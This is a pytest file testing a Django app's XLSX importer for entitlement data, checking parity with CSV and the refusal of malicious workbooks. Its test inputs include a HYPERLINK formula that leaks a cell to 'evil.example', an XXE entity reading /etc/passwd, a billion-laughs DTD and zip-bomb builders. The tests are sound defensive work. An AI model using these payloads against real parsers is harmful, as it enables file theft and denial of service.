"""XLSX input: the first sheet imports exactly like the same CSV; formulas are text; DTDs, entities and zip bombs
are refused, the bombs before anything is decompressed and with bounded memory."""

from __future__ import annotations

import datetime as dt
import resource
import struct
import zipfile
from pathlib import Path

import pytest
from django.test import override_settings

from entitlements.models import Account, ConnectorRun, Entitlement, Identity
from tests.imports.conftest import ACCESS_HEADER, IDENTITY_HEADER, access_state, changes, run_file, snapshot

BOMB_MB = 300
SHEET = "xl/worksheets/sheet1.xml"


def rewrite_xlsx(source: Path, target: Path, replace: dict[str, bytes]) -> Path:
    """Copy a workbook, replacing some parts' bytes."""
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, replace.get(info.filename, zin.read(info.filename)))
    return target


def sheet_xml(source: Path) -> bytes:
    with zipfile.ZipFile(source) as archive:
        return archive.read(SHEET)


def max_rss_bytes() -> int:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024  # Linux reports KiB


@pytest.fixture
def opened_parts(monkeypatch):
    """Names of the zip entries anything opened (openpyxl and the checks both go through ZipFile.open)."""
    names: list[str] = []
    original = zipfile.ZipFile.open

    def spy(self, name, *args, **kwargs):
        names.append(name.filename if isinstance(name, zipfile.ZipInfo) else name)
        return original(self, name, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipFile, "open", spy)
    return names


@pytest.fixture(scope="module")
def template_xlsx(tmp_path_factory) -> Path:
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append(["account_id", "entitlement_id"])
    workbook.active.append(["newbie", "GL_POST"])
    path = tmp_path_factory.mktemp("xlsx") / "template.xlsx"
    workbook.save(path)
    return path


@pytest.fixture(scope="module")
def bomb_xlsx(template_xlsx, tmp_path_factory) -> Path:
    """A workbook whose sheet is 300 MB of zeros, deflated to about 300 KB (streamed; never in memory)."""
    path = tmp_path_factory.mktemp("bomb") / "bomb.xlsx"
    zeros = bytes(1 << 20)
    with zipfile.ZipFile(template_xlsx) as zin, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename == SHEET:
                with zout.open(SHEET, "w") as out:
                    for _ in range(BOMB_MB):
                        out.write(zeros)
            else:
                zout.writestr(info.filename, zin.read(info.filename))
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo(SHEET)
        assert info.file_size == BOMB_MB << 20 and info.compress_size < 1 << 20
    return path


def _lie_about_size(path: Path, entry: str, declared: int) -> None:
    """Patch the local and central headers of ``entry`` to declare ``declared`` uncompressed bytes."""
    data = bytearray(path.read_bytes())
    name = entry.encode()
    local = data.find(b"PK\x03\x04")
    while local != -1:
        name_len = struct.unpack_from("<H", data, local + 26)[0]
        if data[local + 30 : local + 30 + name_len] == name:
            struct.pack_into("<I", data, local + 22, declared)
            break
        local = data.find(b"PK\x03\x04", local + 4)
    central = data.find(b"PK\x01\x02")
    while central != -1:
        name_len = struct.unpack_from("<H", data, central + 28)[0]
        if data[central + 46 : central + 46 + name_len] == name:
            struct.pack_into("<I", data, central + 24, declared)
            break
        central = data.find(b"PK\x01\x02", central + 4)
    path.write_bytes(bytes(data))


# --- Same as CSV ------------------------------------------------------------------------------------------

ACCESS_TEXT = [
    ACCESS_HEADER,
    [
        "ERP",
        "bob",
        "Bob B",
        "E2",
        "",
        "enabled",
        "2024-05-06T07:08:09",
        "GL_POST",
        "Post journal",
        "role",
        "false",
    ],
    ["ERP", "carol", "", "E3", "", "disabled", "", "GL_POST", "Post journal", "role", "false"],
    [
        "ERP",
        "1001",
        "",
        "",
        "bob@example.com",
        "enabled",
        "2024-05-06",
        "AP_APPROVE",
        "Approve",
        "group",
        "true",
    ],
    ["CRM", "ghost", "", "", "", "enabled", "", "", "", "", ""],
]
# The same content as a spreadsheet user types it: numbers, real dates and booleans.
ACCESS_NATIVE = [
    ACCESS_HEADER,
    [
        "ERP",
        "bob",
        "Bob B",
        "E2",
        None,
        "enabled",
        dt.datetime(2024, 5, 6, 7, 8, 9),
        "GL_POST",
        "Post journal",
        "role",
        False,
    ],
    ["ERP", "carol", None, "E3", None, "disabled", None, "GL_POST", "Post journal", "role", False],
    [
        "ERP",
        1001,
        None,
        None,
        "bob@example.com",
        "enabled",
        dt.datetime(2024, 5, 6),
        "AP_APPROVE",
        "Approve",
        "group",
        True,
    ],
    ["CRM", "ghost"],
]
IDENTITIES_TEXT = [
    IDENTITY_HEADER,
    ["E1", "rita@example.com", "Rita Reviewer", "Finance", "CFO", "", "active", "", "human", ""],
    ["E2", "bob@example.com", "Bob Builder", "", "", "E1", "terminated", "2024-03-31", "human", ""],
    ["E3", "carol@example.com", "Carol Other", "", "", "E1", "leave", "", "human", ""],
    ["SVC1", "", "ledger-sync", "", "", "", "active", "", "service", "E1"],
    ["4242", "", "Numbered Person", "", "", "", "active", "", "human", ""],
]
IDENTITIES_NATIVE = [
    IDENTITY_HEADER,
    ["E1", "rita@example.com", "Rita Reviewer", "Finance", "CFO", None, "active", None, "human", None],
    [
        "E2",
        "bob@example.com",
        "Bob Builder",
        None,
        None,
        "E1",
        "terminated",
        dt.date(2024, 3, 31),
        "human",
        None,
    ],
    ["E3", "carol@example.com", "Carol Other", None, None, "E1", "leave", None, "human", None],
    ["SVC1", None, "ledger-sync", None, None, None, "active", None, "service", "E1"],
    [4242, None, "Numbered Person", None, None, None, "active", None, "human", None],
]


@pytest.mark.parametrize(
    ("kind", "text_rows", "native_rows"),
    [("access", ACCESS_TEXT, ACCESS_NATIVE), ("identities", IDENTITIES_TEXT, IDENTITIES_NATIVE)],
)
@pytest.mark.parametrize("first", ["csv", "xlsx"])
def test_xlsx_imports_exactly_like_the_same_csv(
    company, write_csv, write_xlsx, kind, text_rows, native_rows, first
):
    files = {"csv": write_csv(f"{kind}.csv", text_rows), "xlsx": write_xlsx(f"{kind}.xlsx", native_rows)}
    second = "xlsx" if first == "csv" else "csv"

    applied = run_file(files[first], kind=kind)
    assert applied.status == ConnectorRun.Status.APPLIED, applied.problems
    assert changes(applied)
    state, accounts_and_grants = snapshot(), access_state()

    again = run_file(files[second], kind=kind)

    assert again.status == ConnectorRun.Status.APPLIED, again.problems
    assert changes(again) == {}
    assert access_state() == accounts_and_grants
    after = snapshot()
    for model in (
        "Identity",
        "Entitlement",
        "HistoricalIdentity",
        "HistoricalAccount",
        "HistoricalGrant",
        "HistoricalEntitlement",
    ):
        assert after[f"entitlements.{model}"] == state[f"entitlements.{model}"], model


def test_xlsx_values_are_read_as_the_csv_text(company, write_xlsx):
    run = run_file(write_xlsx("access.xlsx", ACCESS_NATIVE))
    assert run.status == ConnectorRun.Status.APPLIED, run.problems
    numbered = Account.objects.get(account_id="1001")
    assert numbered.identity == company["identities"]["bob"]
    assert numbered.last_used_at == dt.datetime(2024, 5, 6, tzinfo=dt.UTC)
    assert numbered.privileged is True
    assert Entitlement.objects.get(entitlement_id="AP_APPROVE").kind == "group"


def test_only_the_first_sheet_is_read(company, tmp_path):
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append(["account_id", "entitlement_id"])
    workbook.active.append(["newbie", "GL_POST"])
    other = workbook.create_sheet("Notes")
    other.append(["account_id", "entitlement_id", "status"])
    other.append(["intruder", "GL_POST", "nonsense"])
    path = tmp_path / "two.xlsx"
    workbook.save(path)

    run = run_file(path, application=company["applications"]["erp"])

    assert run.status == ConnectorRun.Status.APPLIED
    assert set(Account.objects.filter(application__name="ERP").values_list("account_id", flat=True)) == {
        "newbie"
    }


def test_xlsx_bad_values_are_reported_with_spreadsheet_row_numbers(company, write_xlsx):
    before = snapshot()
    run = run_file(
        write_xlsx(
            "hr.xlsx", [IDENTITY_HEADER, IDENTITIES_NATIVE[1], ["E9", None, "X", None, None, None, "gone"]]
        ),
        kind="identities",
    )
    assert run.status == ConnectorRun.Status.FAILED
    assert [(p["row"], p["column"], p["value"]) for p in run.problems] == [(3, "status", "gone")]
    assert snapshot() == before


def test_xlsx_broken_after_the_first_rows_is_refused_and_changes_nothing(company, write_xlsx, tmp_path):
    """Refused while the stage is streaming (on PostgreSQL: from inside COPY)."""
    source = write_xlsx("erp.xlsx", [ACCESS_HEADER[1:], *[[f"acct{n}", "", "E1"] for n in range(50)]])
    xml = sheet_xml(source)
    broken = xml[: xml.index(b'<row r="40"')] + b"<row><c><<<not xml"
    path = rewrite_xlsx(source, tmp_path / "broken.xlsx", {SHEET: broken})
    before = snapshot()

    run = run_file(path, application=company["applications"]["erp"])

    assert run.status == ConnectorRun.Status.FAILED, run.error
    assert run.problems[0]["reason"].startswith("the workbook could not be read to the end")
    assert snapshot() == before


# --- Formulas are text ------------------------------------------------------------------------------------


def test_formula_cells_come_through_as_text_never_evaluated(company, write_xlsx):
    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    path = write_xlsx(
        "erp.xlsx",
        [
            ["account_id", "account_name", "entitlement_id", "entitlement_name"],
            ["newbie", "=1+1", "PWN", hyperlink],
            ["=2*3", "=SUM(A1:A2)", "", ""],
        ],
    )

    run = run_file(path, application=company["applications"]["erp"])

    assert run.status == ConnectorRun.Status.APPLIED, run.problems
    assert Account.objects.get(account_id="newbie").name == "=1+1"
    assert Entitlement.objects.get(entitlement_id="PWN").name == hyperlink
    assert Account.objects.get(account_id="=2*3").name == "=SUM(A1:A2)"


def test_a_formula_with_a_cached_result_is_read_as_its_formula_not_the_result(company, write_xlsx, tmp_path):
    source = write_xlsx("erp.xlsx", [["account_id", "account_name"], ["newbie", "placeholder"]])
    xml = sheet_xml(source)
    cell_start = xml.index(b'<c r="B2"')
    cell_end = xml.index(b"</c>", cell_start) + len(b"</c>")
    xml = xml[:cell_start] + b'<c r="B2" t="str"><f>1+1</f><v>2</v></c>' + xml[cell_end:]
    path = rewrite_xlsx(source, tmp_path / "cached.xlsx", {SHEET: xml})

    run = run_file(path, application=company["applications"]["erp"])

    assert run.status == ConnectorRun.Status.APPLIED, run.problems
    assert Account.objects.get(account_id="newbie").name == "=1+1"


# --- DTDs and entities ------------------------------------------------------------------------------------

ENTITY_DTD = b'<!DOCTYPE worksheet [<!ENTITY pwn "PWNED">]>'
XXE_DTD = b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
LAUGHS_DTD = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
)


def _with_dtd(xml: bytes, dtd: bytes, *, padding: int = 0, use: bytes = b"&pwn;") -> bytes:
    prolog = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    body = xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml
    body = body.replace(b"<t>newbie</t>", b"<t>" + use + b"</t>")
    comment = b"<!--" + b" " * padding + b"-->" if padding else b""
    return prolog + comment + dtd + body


@pytest.mark.parametrize(
    ("part", "dtd", "use"),
    [
        (SHEET, ENTITY_DTD, b"&pwn;"),
        (SHEET, XXE_DTD, b"&xxe;"),
        (SHEET, LAUGHS_DTD, b"&lol3;"),
        (SHEET, b"<!DOCTYPE worksheet>", b"newbie"),
        ("xl/workbook.xml", ENTITY_DTD, b""),
        ("[Content_Types].xml", ENTITY_DTD, b""),
        ("xl/_rels/workbook.xml.rels", ENTITY_DTD, b""),
    ],
)
def test_xlsx_part_declaring_a_dtd_or_entities_is_refused(company, template_xlsx, tmp_path, part, dtd, use):
    with zipfile.ZipFile(template_xlsx) as archive:
        xml = archive.read(part)
    path = rewrite_xlsx(template_xlsx, tmp_path / "dtd.xlsx", {part: _with_dtd(xml, dtd, use=use)})
    before = snapshot()

    run = run_file(path, application=company["applications"]["erp"])

    assert run.status == ConnectorRun.Status.FAILED
    assert run.problems[0]["reason"] == f"XLSX part {part} declares a DTD or entities; refused"
    assert snapshot() == before


@pytest.mark.parametrize("dtd", [ENTITY_DTD, b"<!DOCTYPE worksheet>"])
def test_xlsx_dtd_hidden_after_a_long_comment_is_still_refused(company, template_xlsx, tmp_path, dtd):
    xml = _with_dtd(
        sheet_xml(template_xlsx), dtd, padding=200_000, use=b"&pwn;" if b"ENTITY" in dtd else b"x"
    )
    path = rewrite_xlsx(template_xlsx, tmp_path / "late.xlsx", {SHEET: xml})
    before = snapshot()

    run = run_file(path, application=company["applications"]["erp"])

    assert run.status == ConnectorRun.Status.FAILED, run.counts
    assert "declares a DTD or entities" in run.problems[0]["reason"]
    assert snapshot() == before
    assert not Account.objects.filter(name__contains="PWNED").exists()


# --- Zip bombs --------------------------------------------------------------------------------------------


def test_xlsx_bomb_is_refused_before_decompression_with_bounded_memory(company, bomb_xlsx, opened_parts):
    assert bomb_xlsx.stat().st_size < 1 << 20
    before = snapshot()
    rss_before = max_rss_bytes()

    # Sizes allowed, so that the ratio is what refuses it.
    with override_settings(SOXGOV_XLSX_MAX_ENTRY_BYTES=1 << 30, SOXGOV_XLSX_MAX_TOTAL_BYTES=1 << 31):
        run = run_file(bomb_xlsx, application=company["applications"]["erp"])

    growth = max_rss_bytes() - rss_before
    assert run.status == ConnectorRun.Status.FAILED
    [problem] = run.problems
    assert problem["value"] == SHEET
    assert problem["reason"].startswith(f"XLSX part {SHEET} has a compression ratio of ")
    assert problem["reason"].endswith(":1; refused as a zip bomb")
    assert SHEET not in opened_parts, "the bomb entry was opened (decompressed)"
    assert growth < 100 << 20, f"memory grew by {growth >> 20} MB"
    assert snapshot() == before


def test_xlsx_entry_over_the_size_limit_is_refused_before_decompression(company, bomb_xlsx, opened_parts):
    with override_settings(SOXGOV_XLSX_MAX_ENTRY_BYTES=10 << 20, SOXGOV_XLSX_MAX_RATIO=10_000):
        run = run_file(bomb_xlsx, application=company["applications"]["erp"])

    assert run.status == ConnectorRun.Status.FAILED
    assert run.problems[0]["reason"] == (
        f"XLSX part {SHEET} would expand to {BOMB_MB << 20} bytes; refused as too large"
    )
    assert SHEET not in opened_parts


def test_xlsx_parts_over_the_total_limit_are_refused(company, template_xlsx, tmp_path):
    with zipfile.ZipFile(template_xlsx) as archive:
        total = sum(info.file_size for info in archive.infolist())
    with override_settings(SOXGOV_XLSX_MAX_TOTAL_BYTES=total - 1):
        run = run_file(template_xlsx, application=company["applications"]["erp"])
    assert run.status == ConnectorRun.Status.FAILED
    assert "refused as too large" in run.problems[0]["reason"]
    with override_settings(SOXGOV_XLSX_MAX_TOTAL_BYTES=total):
        assert run_file(template_xlsx, application=company["applications"]["erp"]).status == "applied"


def test_xlsx_bomb_understating_its_size_is_refused_with_bounded_memory(company, bomb_xlsx, tmp_path):
    """A header claiming 1000 bytes for a 300 MB entry passes the size check; reading stops at the claim."""
    path = tmp_path / "liar.xlsx"
    path.write_bytes(bomb_xlsx.read_bytes())
    _lie_about_size(path, SHEET, 1000)
    with zipfile.ZipFile(path) as archive:
        assert archive.getinfo(SHEET).file_size == 1000
    before = snapshot()
    rss_before = max_rss_bytes()

    run = run_file(path, application=company["applications"]["erp"])

    growth = max_rss_bytes() - rss_before
    assert run.status == ConnectorRun.Status.FAILED, run.counts
    [problem] = run.problems
    assert problem["value"] == SHEET
    assert problem["reason"].startswith(f"XLSX part {SHEET} cannot be read: BadZipFile")
    assert growth < 100 << 20, f"memory grew by {growth >> 20} MB"
    assert snapshot() == before


def sheet_like(template: Path, target: Path, megabytes: int) -> Path:
    """A workbook whose sheet is ``megabytes`` MiB of row-like XML that deflates about 100:1 (a few random bytes
    every ~2 KB): within the old limits (1 GiB, 200:1), so it used to be decompressed and parsed."""
    import os

    rows, size, n = [], 0, 0
    while size < 1 << 20:
        row = b'<row r="%d"><c t="inlineStr"><is><t>%s</t></is></c></row>' % (n, os.urandom(4).hex().encode())
        rows.append(row + b" " * 1800)
        size, n = size + len(rows[-1]), n + 1
    chunk = b"".join(rows)[: 1 << 20]
    with zipfile.ZipFile(template) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename == SHEET:
                with zout.open(SHEET, "w") as out:
                    for _ in range(megabytes):
                        out.write(chunk)
            else:
                zout.writestr(info.filename, zin.read(info.filename))
    return target


@pytest.fixture(scope="module")
def wide_xlsx(template_xlsx, tmp_path_factory) -> Path:
    path = sheet_like(template_xlsx, tmp_path_factory.mktemp("wide") / "wide.xlsx", 300)
    assert path.stat().st_size < 4 << 20
    return path


def test_a_few_mb_xlsx_whose_sheet_expands_past_the_default_limit_is_refused_quickly_before_parsing(
    company, wide_xlsx, opened_parts
):
    import time

    with zipfile.ZipFile(wide_xlsx) as archive:
        info = archive.getinfo(SHEET)
        assert info.file_size == 300 << 20 and info.file_size / info.compress_size < 200
    before = snapshot()
    started = time.perf_counter()

    run = run_file(wide_xlsx, application=company["applications"]["erp"])

    assert time.perf_counter() - started < 5
    assert run.status == ConnectorRun.Status.FAILED
    [problem] = run.problems
    assert (problem["file"], problem["value"]) == ("wide.xlsx", SHEET)
    assert problem["reason"] == f"XLSX part {SHEET} would expand to {300 << 20} bytes; refused as too large"
    assert SHEET not in opened_parts
    assert snapshot() == before


def test_a_small_xlsx_expanding_over_the_default_ratio_is_refused_before_parsing(
    company, template_xlsx, tmp_path, opened_parts
):
    path = sheet_like(template_xlsx, tmp_path / "dense.xlsx", 20)
    opened_parts.clear()  # writing it opened the sheet too
    run = run_file(path, application=company["applications"]["erp"])
    assert run.status == ConnectorRun.Status.FAILED
    [problem] = run.problems
    assert (problem["file"], problem["value"]) == ("dense.xlsx", SHEET)
    assert problem["reason"].endswith(":1; refused as a zip bomb")
    assert SHEET not in opened_parts


@pytest.mark.parametrize(
    "content",
    [b"PK\x03\x04not really a zip", b"PK\x03\x04" + bytes(100)],
    ids=["garbage", "zeros"],
)
def test_file_that_looks_like_a_zip_but_is_not_is_refused(company, write_csv, content):
    run = run_file(write_csv("fake.xlsx", content), application=company["applications"]["erp"])
    assert run.status == ConnectorRun.Status.FAILED
    assert run.problems[0]["reason"].startswith("not a valid XLSX (zip) file")


def test_zip_that_is_not_a_workbook_is_refused(company, tmp_path):
    path = tmp_path / "plain.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("hello.txt", "hello")
    run = run_file(path, application=company["applications"]["erp"])
    assert run.status == ConnectorRun.Status.FAILED
    assert run.problems[0]["reason"].startswith("not a readable XLSX workbook")


def test_xlsx_with_an_empty_first_sheet_is_refused(company, write_xlsx):
    run = run_file(write_xlsx("empty.xlsx", []), application=company["applications"]["erp"])
    assert run.status == ConnectorRun.Status.FAILED
    assert run.problems[0]["reason"] == "the first sheet is empty: a header row is required"
    assert Identity.objects.count() == 4
